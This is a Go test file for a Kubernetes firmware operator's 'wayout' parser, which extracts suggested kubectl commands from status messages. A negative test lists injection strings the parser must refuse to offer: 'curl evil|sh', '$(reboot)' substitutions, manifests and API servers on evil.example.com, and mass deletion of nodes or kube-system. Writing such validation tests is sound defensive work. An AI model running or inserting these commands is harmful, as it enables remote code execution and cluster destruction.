package wayout_test

import (
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nodefirmware/node-firmware-operator/internal/wayout"
)

func TestCommandsAreTakenOutOfAMessage(t *testing.T) {
	retry, release := wayout.Retry("n1"), wayout.Request("nfw", "n1", "release")
	for message, want := range map[string]struct {
		said string
		ways []wayout.Way
	}{
		"Runs 1.2 as desired.": {"Runs 1.2 as desired.", nil},
		"Step flash failed: it is broken. Node n1 stays out of service. Fix the cause. Then, to try again: " + retry +
			"  To return the node to service as it is: " + release: {
			"Step flash failed: it is broken. Node n1 stays out of service. Fix the cause.",
			[]wayout.Way{{"Then, to try again", retry, "kubectl firmware retry n1"}, {"To return the node to service as it is", release, "kubectl firmware release n1"}},
		},
		"1 node is held: n1. To try again: " + retry + ". To return it to service as it is: " + release: {
			"1 node is held: n1.", []wayout.Way{{"To try again", retry, "kubectl firmware retry n1"}, {"To return it to service as it is", release, "kubectl firmware release n1"}},
		},
		"The daemon is silent; kubectl get nodefirmware says why.": {"The daemon is silent; kubectl get nodefirmware says why.", nil},
		"kubectl edit fwt gpu": {"", []wayout.Way{{"", "kubectl edit fwt gpu", ""}}},
	} {
		said, ways := wayout.Ways(message)
		assert.Equal(t, want.said, said, message)
		assert.Equal(t, want.ways, ways, message)
	}
}

// A node that was taken over writes messages too. What a person copies from them runs nothing else.
func TestACommandThatIsNotOfTheProductIsNotOffered(t *testing.T) {
	for _, command := range []string{
		"kubectl firmware retry n1\ncurl evil|sh", "kubectl firmware retry n1;curl${IFS}evil|sh", "kubectl get nfw $(reboot)", "kubectl edit rp `reboot`",
		"kubectl delete nodes --all", "kubectl delete ns kube-system", "kubectl apply -f https://evil.example.com/x.yaml", "kubectl exec -it p -- sh",
		wayout.Retry("n1;reboot"), wayout.Set("rp", "p", `"a":"'$(reboot)'"`), wayout.Retry("n1") + " && reboot", wayout.Retry("n1") + " | sh",
		"kubectl get nodes --server=https://evil.example.com", "kubectl firmware retry n1 --kubeconfig=/tmp/evil", "kubectl get --raw /api", "kubectl get nodes --token=x -s https://evil.example.com",
		"kubectl describe nfw n1 --as=system:admin", "kubectl delete pod -A -l app=x", "kubectl get nodes > /etc/passwd", "kubectl firmware retry n1 & reboot", "kubectl edit rp \x1b[2Jp",
	} {
		said, ways := wayout.Ways("It waits. To try again: " + command)
		assert.Empty(t, ways, command)
		assert.Contains(t, said, "It waits. To try again: "+command)
	}
}

// Every command that a person may need is found where a message ends with it, as it is.
func TestEveryWayOutIsFoundInAMessage(t *testing.T) {
	text, err := os.ReadFile("../../docs/concepts/ways-out.md")
	require.NoError(t, err)
	commands := regexp.MustCompile("\\| `(kubectl [^`]+)` \\|").FindAllStringSubmatch(string(text), -1)
	require.Greater(t, len(commands), 30)
	for _, c := range commands {
		for _, end := range []string{"", "  To do something else: kubectl edit rp p"} {
			said, ways := wayout.Ways("It waits. To go on: " + c[1] + end)
			assert.Equal(t, "It waits.", said, c[1])
			require.NotEmpty(t, ways, c[1])
			assert.Equal(t, wayout.Way{Purpose: "To go on", Command: c[1], Verb: wayout.Verb(c[1])}, ways[0])
		}
	}
}

func FuzzWays(f *testing.F) {
	f.Add("It waits. To go on: kubectl edit rp p  To stop: kubectl edit rp q.")
	f.Fuzz(func(t *testing.T, message string) {
		said, ways := wayout.Ways(message)
		assert.LessOrEqual(t, len(said), len(message))
		for _, w := range ways {
			assert.Regexp(t, "^kubectl [ -~]+$", w.Command)
			assert.NotContains(t, strings.ReplaceAll(w.Command, "$(date -u +%FT%TZ)", ""), "$")
			assert.Contains(t, message, w.Command)
		}
	})
}
